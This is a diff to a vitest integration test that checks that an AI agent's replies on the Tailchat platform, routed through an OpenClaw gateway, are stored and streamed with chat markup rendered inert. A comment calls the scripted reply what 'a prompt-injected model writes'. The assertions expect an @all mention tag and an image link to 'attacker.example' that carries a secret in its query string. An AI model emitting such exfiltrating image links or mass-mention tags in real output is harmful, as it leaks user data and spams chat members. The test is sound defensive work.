@@ -6,9 +6,17 @@
  *      web client, read with @bbob/parser exactly as the client reads it;
  *   5. a huge message in one group must not hold up the agent's reply in another group.
  */
+import { mkdtempSync, rmSync } from 'node:fs';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
-import { startAgentStack, type AgentStack } from '../../support/agent-stack.js';
-import { aiMeta, type Conversation, type WireMessage } from '../../support/conversation.js';
+import { SCRIPTED_BBCODE } from '../../../bridge/engine/scripted/engine.js';
+import { startModelServer, type ModelServer } from '../../model-server/server.js';
+import { startTestGateway, type TestGateway } from '../../openclaw/gateway.js';
+import { PLUGIN, startAgentStack, type AgentStack } from '../../support/agent-stack.js';
+import { startBundleProcess, type BundleProcess } from '../../support/bundle-process.js';
+import { aiMeta, startConversation, type Conversation, type WireMessage } from '../../support/conversation.js';
+import { startTailchat, waitForHealthServices, type TailchatInstance } from '../../tailchat/kit.js';
 import { CLIENT_OPTIONS, clientParse, clientRender, TAILCHAT_REGISTERED_TAGS, tagNodes } from '../../support/tailchat-bbcode.js';
 
 const ACTED: ReadonlySet<string> = new Set(TAILCHAT_REGISTERED_TAGS);
@@ -81,5 +89,59 @@ describe('hostile output and intake on the real Tailchat', () => {
     );
     // Generous: the quadratic intake added about 10 s here (0.4 s → 9.7 s in the issue).
     expect(flooded, `baseline ${Math.round(baseline)} ms`).toBeLessThan(baseline + 4000);
+  });
+});
+
+describe('hostile output through the OpenClaw gateway on the real Tailchat', () => {
+  let tc: TailchatInstance;
+  let model: ModelServer;
+  let gateway: TestGateway;
+  let bundle: BundleProcess;
+  let conv: Conversation;
+  const dir = mkdtempSync(join(tmpdir(), 'hostile-openclaw-'));
+
+  beforeAll(async () => {
+    // The model answers with the tags a prompt-injected model writes, streamed in pieces.
+    model = await startModelServer({ script: [{ match: '[[bbcode]]', reply: { kind: 'text', text: SCRIPTED_BBCODE.join('\n'), chunks: 12, delayMs: 20 } }] });
+    [tc, gateway] = await Promise.all([startTailchat({ transporter: 'nats', label: 'hostile-openclaw' }), startTestGateway({ modelUrl: model.url })]);
+    bundle = startBundleProcess(
+      {
+        TRANSPORTER: tc.transporter,
+        TAILCHAT_NAMESPACE: tc.namespace,
+        AI_ENGINE: 'openclaw',
+        OPENCLAW_GATEWAY_URL: gateway.url,
+        OPENCLAW_GATEWAY_TOKEN: gateway.token,
+        OPENCLAW_DEVICE_IDENTITY_PATH: join(dir, 'device.json'),
+        AI_STREAM_INTERVAL_MS: '100',
+      },
+      'bundle-hostile-openclaw',
+    );
+    await waitForHealthServices(tc.url, [PLUGIN, `${PLUGIN}.runner`], 60_000);
+    conv = await startConversation(tc);
+  }, 240_000);
+
+  afterAll(async () => {
+    conv?.close();
+    await bundle?.stop();
+    await gateway?.dispose();
+    await model?.close();
+    await tc?.stop();
+    rmSync(dir, { recursive: true, force: true });
+  }, 120_000);
+
+  it('4: the model\'s reply carrying Tailchat tags is stored and streamed inert for the web client', async () => {
+    const prompt = await conv.ask('summarise the page [[bbcode]]');
+    const final = await conv.finalReplyTo(prompt, 60_000);
+    const runId = aiMeta(final)!.runId;
+    const stored = (await conv.botMessages()).find((m) => m._id === final._id);
+    expect(stored).toBeDefined();
+    expect(actedTags(stored!.content)).toEqual([]);
+    expect(stored!.content).toContain('［at=all］everyone［/at］');
+    expect(stored!.content).toContain('https://attacker.example/p.png?d=SECRET');
+    const drafts = ['notify:chat.message.add', 'notify:chat.message.update']
+      .flatMap((e) => conv.bobSocket.events<WireMessage>(e))
+      .filter((m) => aiMeta(m)?.runId === runId);
+    expect(drafts.length).toBeGreaterThan(1);
+    for (const d of drafts) expect(actedTags(d.content), d.content).toEqual([]);
   });
 });
